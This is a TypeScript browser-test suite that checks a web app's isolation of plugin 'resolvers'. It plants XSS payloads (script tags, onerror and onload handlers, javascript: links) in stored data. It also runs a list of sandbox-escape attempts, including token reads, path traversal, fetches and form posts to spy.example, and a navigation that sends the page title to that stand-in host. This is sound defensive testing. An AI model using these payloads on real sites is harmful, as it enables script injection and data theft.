/** Holds that nothing a resolver brings runs in the page: what it stores is text, and its viewport reaches nothing but its own instance. */
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type PlainResolver, plainResolver } from '../support/plain-resolver.ts'
import {
  type Caller,
  callerOf,
  createInstance,
  newToken,
  openContext,
  type Server,
  signedIn,
  startServer,
  untilStatus,
} from './stand.ts'
import { describePage } from './support.ts'

const LIMIT = 90_000

/** Sets a mark where it runs; in a text, an address, an attribute, a script. */
const EVIL = `<img src=x onerror="top.pwned=1"><script>top.pwned=1</script><svg onload="top.pwned=1"></svg><a href="javascript:top.pwned=1">click</a>`

const FORM = {
  type: 'form',
  components: [
    { type: 'text', id: 'evil', label: EVIL, description: EVIL, placeholder: EVIL },
    { type: 'select', id: 'choice', label: 'Choice', options: [{ value: EVIL, label: EVIL }] },
  ],
}

const FILES = {
  'page.html': `<!doctype html><body>${EVIL}</body>`,
  'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"><script>top.pwned=1</script></svg>`,
  'notes.md': `# Notes ${EVIL}\n\n${EVIL}\n\n[link](javascript:top.pwned=1) [data](data:text/html,x) ![spy](https://spy.example/x.png) [good](https://good.example/)\n`,
  'values.json': JSON.stringify({ [EVIL]: EVIL }),
  'plain.txt': EVIL,
  'not-a-picture.png': EVIL,
  'graph.dot': `digraph { a [label="<b>bold</b>", URL="javascript:top.pwned=1", tooltip="${'x'}"]; b [label="plain", image="https://spy.example/y.png"]; a -> b [href="javascript:top.pwned=1"] }`,
}

const hostile = plainResolver(
  `
  const evil = ${JSON.stringify(EVIL)}
  const files = ${JSON.stringify(FILES)}
  fs.mkdirSync(root + '/data', { recursive: true })
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(root + '/data/' + name, text)
  fs.writeFileSync(root + '/state.json', JSON.stringify({ phase: evil, [evil]: evil, nodes: { a: { status: 'running', about: evil }, b: 'completed' } }))
  me.emit('resolver:phase', { name: evil })
  me.emit('resolver:progress', { milestone: evil, fraction: 0.5, label: evil })
  me.emit('resolver:artifact', { kind: 'file', value: evil, metadata: { evil } })
  me.emit('hostile.odd', { [evil]: evil })
  await me.ask('evil', evil, ${JSON.stringify(FORM)})
  me.finish({ status: 'completed', output: evil })
`,
  { name: 'hostile', description: EVIL.slice(0, 60) },
)

/** A resolver that waits for its end, with this for a viewport. */
function withViewport(name: string, code: string): PlainResolver {
  const made = plainResolver(`await me.stopped; me.finish({ status: 'cancelled' })`, {
    name,
    viewport_path: 'view/viewport.js',
  })
  mkdirSync(join(made.dir, 'view'))
  writeFileSync(join(made.dir, 'view', 'viewport.js'), code)
  return made
}

const ATTEMPTS = `
const attempts = {
  'parent.document': () => parent.document.title,
  'top.document': () => top.document.title,
  'parent token': () => parent.localStorage.getItem('resolve.token'),
  'localStorage': () => localStorage.setItem('x', 'y'),
  'sessionStorage': () => sessionStorage.setItem('x', 'y'),
  'document.cookie': () => { document.cookie = 'x=y'; if (document.cookie === '') throw new Error('none') },
  'indexedDB': () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => no(new Error('refused')) }),
  'fetch api': () => fetch('/api/instances'),
  'fetch absolute': () => fetch(ORIGIN + '/api/health'),
  'fetch elsewhere': () => fetch('https://spy.example/'),
  'xhr': () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', ORIGIN + '/api/health'); x.onload = ok; x.onerror = () => no(new Error('refused')); x.send() }),
  'websocket': () => new Promise((ok, no) => { const s = new WebSocket(ORIGIN.replace('http', 'ws')); s.onopen = ok; s.onerror = () => no(new Error('refused')) }),
  'event source': () => new Promise((ok, no) => { const s = new EventSource(ORIGIN + '/api/health'); s.onopen = ok; s.onerror = () => no(new Error('refused')) }),
  'picture': () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('refused')); i.src = ORIGIN + '/assets/x.svg' }),
  'frame': () => new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = ORIGIN + '/'; f.onload = () => { try { f.contentDocument.title; ok() } catch (e) { no(e) } }; document.body.append(f); setTimeout(() => no(new Error('refused')), 1500) }),
  'script': () => new Promise((ok, no) => { const s = document.createElement('script'); s.src = ORIGIN + '/assets/x.js'; s.onload = ok; s.onerror = () => no(new Error('refused')); document.body.append(s) }),
  'inline script': () => { window.ran = false; const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s); if (!window.ran) throw new Error('refused') },
  'eval': () => eval('1'),
  'import': () => import(ORIGIN + '/assets/x.js'),
  'window.open': () => { if (window.open(ORIGIN) === null) throw new Error('refused') },
  'alert': () => { if (confirm('x') !== true) throw new Error('refused') },
  'top navigation': () => { top.location.href = 'https://spy.example/' },
  'form': () => { const f = document.createElement('form'); f.action = 'https://spy.example/'; f.target = '_top'; document.body.append(f); f.submit(); return new Promise((_, no) => setTimeout(() => no(new Error('stayed')), 500)) },
  'service worker': () => navigator.serviceWorker.register('/x.js'),
  'webrtc': () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }),
  'webrtc of an inner frame': () => { const f = document.createElement('iframe'); document.body.append(f); return new f.contentWindow.RTCPeerConnection() },
  'webrtc, put back': () => { delete window.RTCPeerConnection; Object.defineProperty(window, 'RTCPeerConnection', { value: 1 }); return new RTCPeerConnection() },
  'web transport': () => new WebTransport(ORIGIN.replace('http:', 'https:')).ready,
  'another instance': () => props.fetchData('../../' + OTHER + '/record.json'),
  'another route': () => props.fetchData('../../../health'),
  'its own stderr': () => props.fetchData('../stderr'),
  'config': () => props.fetchData('../config.json'),
}
let props
`

function table(origin: string, other: string): string {
  return `const ORIGIN = ${JSON.stringify(origin)}, OTHER = ${JSON.stringify(other)}\n${ATTEMPTS}
export default async function mount(container, given) {
  props = given
  const outcome = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); outcome[name] = 'reached' } catch { outcome[name] = 'blocked' }
  }
  outcome.token = JSON.stringify(given).includes('token') || Object.keys(given).some((key) => /token/i.test(key)) ? 'reached' : 'blocked'
  await given.sendMessage('note', { text: JSON.stringify(outcome) })
  container.textContent = 'tried everything'
}`
}

const APPROVAL = { type: 'form', components: [{ type: 'checkbox', id: 'ok', label: 'OK' }] }
const asks = plainResolver(
  `fs.mkdirSync(root + '/data', { recursive: true }); fs.writeFileSync(root + '/data/mine.txt', 'mine')
  await me.ask('first', 'Merge it?', ${JSON.stringify(APPROVAL)})
  const second = await me.ask('second', 'Delete it?', ${JSON.stringify(APPROVAL)})
  me.finish({ status: 'completed', output: JSON.stringify(second) })`,
  { name: 'asks', viewport_path: 'view/viewport.js' },
)
mkdirSync(join(asks.dir, 'view'))
writeFileSync(
  join(asks.dir, 'view', 'viewport.js'),
  `export default async function mount(container, props) {
    const lines = []
    const say = (text) => { lines.push(text); container.textContent = lines.join('; ') }
    say('read ' + await (await props.fetchData('mine.txt')).text())
    await props.respondToInputRequest('second', { ok: true }).then(() => say('sent'), (error) => say(error.message))
    await props.respondToInputRequest('first', { ok: true }).then(() => say('sent'), (error) => say(error.message))
  }`,
)

const loops = withViewport(
  'loops',
  `export default (container) => { container.textContent = 'up'; setTimeout(() => { for (;;); }, 200) }`,
)
const floods = withViewport(
  'floods',
  `export default () => { setInterval(() => { for (let n = 0; n < 1000; n += 1) parent.postMessage('{"type":"pong"}', '*') }, 50) }`,
)
const huge = withViewport(
  'huge',
  `export default () => { setTimeout(() => parent.postMessage('x'.repeat(64 * 1024 * 1024), '*'), 100) }`,
)
const throws = withViewport('throws', `export default () => { throw new Error('<b>not today</b>') }`)
const broken = withViewport('broken', `export default (`)
const leaves = withViewport(
  'leaves',
  `export default () => { setTimeout(() => { location.href = 'https://spy.example/?' + document.title }, 100) }`,
)
const returns = withViewport('returns', `export default () => { setTimeout(() => { location.href = '/' }, 100) }`)

describePage('the page: hostile resolvers', () => {
  let server: Server
  let call: Caller

  beforeAll(async () => {
    const tries = withViewport('tries', '')
    server = await startServer([hostile, tries, asks, loops, floods, huge, throws, broken, leaves, returns])
    writeFileSync(join(tries.dir, 'view', 'viewport.js'), table(server.url, '0123456789ab'))
    call = callerOf(server, await newToken(server.home))
  })
  afterAll(() => server.close())

  test(
    'stored HTML, SVG and script in files, events, prompts, forms and state never run (UI-1, UI-2)',
    async () => {
      const { context, complaints } = await openContext()
      const page = await signedIn(context, server)
      const dialogs: string[] = []
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message())
        void dialog.dismiss()
      })
      const strangers: string[] = []
      page.on('request', (request) => {
        if (!request.url().startsWith(server.url) && !request.url().startsWith('blob:')) strangers.push(request.url())
      })
      const id = await createInstance(call, 'hostile')
      await untilStatus(call, id, 'awaiting_input')
      const unharmed = async (where: string) => {
        await page.waitForTimeout(150)
        const found = await page.evaluate(`({
          pwned: window.pwned, images: document.querySelectorAll('img[src="x"], img[onerror], [onload]').length,
          links: document.querySelectorAll('a[href^="javascript"], a[href^="data"]').length,
          scripts: [...document.scripts].filter((script) => !script.src.startsWith(location.origin)).length,
        })`)
        expect({ where, found }).toEqual({ where, found: { pwned: undefined, images: 0, links: 0, scripts: 0 } })
      }
      for (const path of ['/', '/instances', '/inbox', '/resolvers', '/resolvers/hostile']) {
        await page.goto(server.url + path)
        await page.getByRole('heading', { level: 1 }).waitFor()
        await unharmed(path)
      }
      await page.goto(`${server.url}/instances/${id}/timeline`)
      await page.getByText('hostile.odd').first().waitFor()
      for (const line of await page.locator('.event-line').all()) await line.click()
      await unharmed('timeline')
      for (const tab of ['State', 'Messages', 'Raw', 'Graph']) {
        await page.getByRole('tab', { name: tab, exact: true }).click()
        if (tab === 'Graph') await page.locator('.drawing svg [data-node="a"][data-node-status="running"]').waitFor()
        await unharmed(tab)
      }
      expect(await page.locator('.drawing a, .drawing image, .drawing script').count()).toBe(0)
      await page.getByRole('tab', { name: 'Data' }).click()
      for (const name of Object.keys(FILES)) {
        await page.getByRole('link', { name: new RegExp(`^${name.replaceAll('.', '\\.')}`) }).click()
        await page.getByRole('region', { name: `File ${name}` }).waitFor()
        await unharmed(name)
      }
      await page.getByRole('link', { name: /^page\.html/ }).click()
      await page.getByText('This kind of file has no preview.').waitFor()
      await page.getByRole('link', { name: /^notes\.md/ }).click()
      const good = page.locator('.markdown a')
      await good.waitFor()
      expect(
        await good.evaluateAll((links) =>
          links.map((link) => [(link as HTMLAnchorElement).href, (link as HTMLAnchorElement).rel]),
        ),
      ).toEqual([['https://good.example/', 'noreferrer noopener']])
      const file = await page.context().newPage()
      const answer = await file.goto(`${server.url}/api/instances/${id}/data/page.html`)
      expect(answer?.status()).toBe(401)
      expect({ dialogs, strangers }).toEqual({ dialogs: [], strangers: [] })
      expect(complaints).toEqual([])
      await context.close()
    },
    LIMIT,
  )

  test(
    'a viewport cannot reach another document, storage, address or instance (UI-3)',
    async () => {
      const { context } = await openContext()
      const page = await signedIn(context, server)
      const reached: string[] = []
      context.on('request', (request) => {
        // What a frame without an origin asks for would show here, were it let through.
        if (request.url().includes('spy.example')) reached.push(request.url())
      })
      const id = await createInstance(call, 'tries')
      await untilStatus(call, id, 'running')
      await page.goto(`${server.url}/instances/${id}/view`)
      await page.frameLocator('iframe').getByText('tried everything').waitFor({ timeout: 30_000 })
      const [message] = await call<{ payload: { text: string }; actor: string; via: string }[]>(
        'GET',
        `/instances/${id}/messages`,
      )
      const outcome = JSON.parse(message?.payload.text ?? '{}') as Record<string, string>
      expect(Object.keys(outcome).length).toBeGreaterThan(25)
      expect(Object.entries(outcome).filter(([, what]) => what !== 'blocked')).toEqual([])
      expect(page.url()).toBe(`${server.url}/instances/${id}/view`)
      expect({ actor: message?.actor, via: message?.via }).toEqual({ actor: 'tester', via: 'viewport' })
      expect(await page.evaluate('localStorage.getItem("x")')).toBe(null)
      await call('DELETE', `/instances/${id}`)
      await context.close()
    },
    LIMIT,
  )

  test(
    'a viewport reads with a token of its instance, and its answer is sent after the person agreed, in the name of the view (UI-3)',
    async () => {
      const { context } = await openContext()
      const page = await signedIn(context, server)
      const id = await createInstance(call, 'asks')
      await untilStatus(call, id, 'awaiting_input')
      const reading = page.waitForRequest(`**/instances/${id}/data/mine.txt`)
      await page.goto(`${server.url}/instances/${id}/view`)
      const token = (await (await reading).headerValue('authorization')) ?? ''
      expect(token).toMatch(/^Bearer rslf_/)
      const asIt = (path: string) => fetch(`${server.url}/api${path}`, { headers: { authorization: token } })
      expect((await asIt(`/instances/${id}`)).status).toBe(200)
      expect((await asIt('/resolvers')).status).toBe(403)
      const frame = page.frameLocator('iframe')
      await frame.getByText('read mine').waitFor()

      const proposal = page.getByRole('region', { name: 'The view wants to send this answer in your name' })
      await proposal.getByText('"second", which is not open').waitFor()
      expect(await proposal.getByRole('button', { name: 'Send this answer' }).isDisabled()).toBe(true)
      await proposal.getByRole('button', { name: 'Do not send it' }).click()
      await frame.getByText('did not agree').waitFor()

      await proposal.getByText('Merge it?').waitFor()
      const pending = await call<{ id: string; status: string }[]>('GET', `/instances/${id}/input-requests`)
      expect(pending.map((request) => [request.id, request.status])).toEqual([['first', 'pending']])
      await proposal.getByRole('button', { name: 'Send this answer' }).click()
      await frame.getByText('; sent').waitFor()
      await proposal.waitFor({ state: 'detached' })
      const { requests } = await call<{ requests: Record<string, { actor: string; via: string }> }>(
        'GET',
        `/instances/${id}/story`,
      )
      expect(Object.values(requests)[0]).toMatchObject({ actor: 'tester', via: 'viewport' })
      await call('DELETE', `/instances/${id}`)
      await context.close()
    },
    LIMIT,
  )

  const failures = [
    ['loops', /does not answer/],
    ['floods', /sent too many messages/],
    ['huge', /sent an invalid message/],
    ['throws', /<b>not today<\/b>/],
    ['broken', /SyntaxError/],
  ] as const
  test.each(failures)(
    'a viewport that %s fails without the page',
    async (name, words) => {
      const { context } = await openContext()
      const page = await signedIn(context, server)
      const id = await createInstance(call, name)
      await untilStatus(call, id, 'running')
      await page.goto(`${server.url}/instances/${id}/view`)
      await page.getByText('The resolver’s view has failed').waitFor({ timeout: 30_000 })
      expect(await page.getByRole('alert').textContent()).toMatch(words)
      await page.locator('iframe').waitFor({ state: 'detached' })
      await page.getByRole('tab', { name: 'Events' }).click()
      await page.getByRole('button', { name: 'Cancel' }).click()
      await page.getByRole('button', { name: 'Cancel it' }).click()
      await page.locator('.instance-line .status[data-status="cancelled"]').waitFor()
      await context.close()
    },
    LIMIT,
  )

  test.each(['leaves', 'returns'])(
    'a viewport that navigates its own frame (%s) is blocked and gets no more data',
    async (name) => {
      const { context } = await openContext()
      const page = await signedIn(context, server)
      const asked: string[] = []
      context.on('request', (request) => {
        if (request.isNavigationRequest() && request.frame() !== page.mainFrame()) asked.push(request.url())
      })
      const id = await createInstance(call, name)
      await untilStatus(call, id, 'running')
      await page.goto(`${server.url}/instances/${id}/view`)
      await page.getByText('The resolver’s view has failed').waitFor({ timeout: 30_000 })
      expect(asked.filter((url) => url.includes('spy.example'))).toEqual([])
      expect(page.url()).toBe(`${server.url}/instances/${id}/view`)
      await call('DELETE', `/instances/${id}`)
      await context.close()
    },
    LIMIT,
  )
})
